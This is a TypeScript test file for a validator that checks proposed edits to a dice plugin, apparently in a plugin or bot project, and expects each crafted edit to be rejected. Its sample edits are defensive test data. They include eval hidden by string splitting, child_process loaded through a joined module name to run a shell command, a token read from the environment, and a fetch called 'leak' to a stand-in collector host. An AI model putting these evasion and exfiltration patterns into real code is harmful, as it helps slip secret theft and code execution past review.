import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openGitSnapshot } from "../snapshot/git-snapshot.ts";
import { block } from "../testing/edits.ts";
import { createFixtureRepo, type FixtureRepo } from "../testing/fixture-repo.ts";
import { createValidator, type Validator } from "./validator.ts";

const ROLL = "packages/plugins/dice/src/roll.ts";
const ANCHOR = "/** Rolls the dice with the given source of randomness. */\n";

let repo: FixtureRepo;
let validator: Validator;
beforeAll(async () => {
  repo = await createFixtureRepo();
  validator = createValidator({ base: await openGitSnapshot(repo.dir), options: { tests: { run: false } } });
});
afterAll(() => repo.remove());

/** An edit adding `code` to the dice plugin, above the `roll` function. */
const adding = (code: string) => block(ROLL, ANCHOR, `${code}\n\n${ANCHOR}`);

// The first validation builds the TypeScript program of the fixture, which takes seconds on a
// busy machine: a generous limit keeps the test about the verdict, not about speed.
const FIRST_BUILD_MS = 60_000;

describe("a crafted edit to a fixture plugin is rejected", () => {
  it.each([
    [
      "security",
      "security/eval",
      'export const calc = (text: string) => (globalThis as any)["ev" + "al"](text);',
    ],
    ["security", "security/eval", "const run = eval;\nexport const calc = (text: string) => run(text);"],
    [
      "security",
      "security/eval",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: source code under test
      'const part = "ev";\nconst name = `${part}al`;\nexport const calc = (text: string) => (globalThis as any)[name](text);',
    ],
    ["security", "security/eval", "export const calc = (text: string) => (0, eval)(text);"],
    ["security", "security/function-constructor", 'export const make = () => new Function("return 1");'],
    [
      "security",
      "security/dangerous-module",
      'export const sh = () => require(["child", "process"].join("_")).execSync("id");',
    ],
    [
      "security",
      "security/dangerous-module",
      'import { exec } from "node:child_process";\nexport const sh = exec;',
    ],
    ["security", "security/dynamic-import", "export const load = (name: string) => import(name);"],
    [
      "security",
      "security/process-internals",
      'export const bind = () => (process as any)["binding"]("spawn_sync");',
    ],
    ["security", "security/dynamic-access", "export const grab = (key: string) => (globalThis as any)[key];"],
    [
      "security",
      "security/fs-write",
      'import { writeFileSync } from "node:fs";\nexport const save = () => writeFileSync("/tmp/x", "y");',
    ],
    ["security", "security/process-env", "export const token = process.env.DISCORD_BOT_TOKEN;"],
    [
      "security",
      "security/network-host",
      'export const leak = () => fetch("https://collector.example.net/roll");',
    ],
    ["security", "security/secret", `export const token = "ghp_${"Ab3".repeat(12)}";`],
    ["security", "security/invisible-unicode", 'export const label = "d6\u202E";'],
    ["syntax", "syntax/TS1109", "export const broken = (a: number) => a +;"],
    [
      "quality",
      "quality/complexity",
      `export function tangled(n: number) {\n${Array.from({ length: 21 }, (_, i) => `  if (n === ${i}) return ${i};`).join("\n")}\n  return -1;\n}`,
    ],
    [
      "dependencies",
      "dependencies/undeclared-package",
      'import chalk from "chalk";\nexport const paint = chalk;',
    ],
    ["types", "types/TS2322", 'export const sides: number = "six";'],
  ])(
    "at the %s stage by %s",
    async (stage, rule, code) => {
      const report = await validator.validate(adding(code));

      const failed = report.stages.find((result) => result.status === "fail");
      expect(report.decision).toBe("reject");
      expect(failed?.stage).toBe(stage);
      expect(failed?.violations.map((violation) => violation.rule)).toContain(rule);
    },
    FIRST_BUILD_MS,
  );

  it.each([
    ["edits/placeholder", block(ROLL, ANCHOR, `// ... existing code ...\n${ANCHOR}`)],
    ["edits/multiple-matches", block(ROLL, "}\n", "}\n\n")],
    ["edits/no-match", block(ROLL, "/** Rolls two dice. */\n", "/** Rolls the dice. */\n")],
    [
      "edits/missing-file",
      block("packages/plugins/dice/src/rolls.ts", ANCHOR, ANCHOR.replace("dice", "die")),
    ],
    ["edits/unbalanced-brackets", block(ROLL, "  return results;\n}\n", "  return results;\n")],
    ["edits/file-exists", block(ROLL, "", "export {};\n")],
  ])("at the edits stage by %s", async (rule, answer) => {
    const report = await validator.validate(answer);

    expect(report.decision).toBe("reject");
    expect(report.stages[0]?.violations.map((violation) => violation.rule)).toEqual([rule]);
  });
});
